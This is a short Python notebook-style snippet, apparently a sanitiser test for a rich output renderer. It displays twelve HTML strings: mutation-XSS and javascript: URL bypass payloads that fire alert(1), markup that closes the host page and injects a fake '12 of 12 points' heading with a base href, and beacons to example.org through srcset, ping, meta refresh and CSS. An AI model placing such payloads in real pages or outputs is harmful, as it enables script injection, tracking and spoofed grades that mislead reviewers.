# output: HTML that changes its meaning when it is parsed a second time, or ends what it stands in
# place: last
texts = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='\x01javascript:alert(1)'>x</a><a href='jav\tascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>y</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><script>alert(1)</script><xmp><script>alert(1)</script></xmp>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
    "</div></div></body></html><h1>12 of 12 points</h1><base href=//example.org>",
    "<img srcset='//example.org/x 1x'><table background=//example.org/x><a ping=//example.org href=x>z</a>",
    "<meta http-equiv=refresh content='0;url=//example.org'><div style='background:url(//example.org/x)'>s</div>",
]
for text in texts:
    display({"text/html": text, "text/markdown": text, "text/latex": text, "text/plain": text}, raw=True)
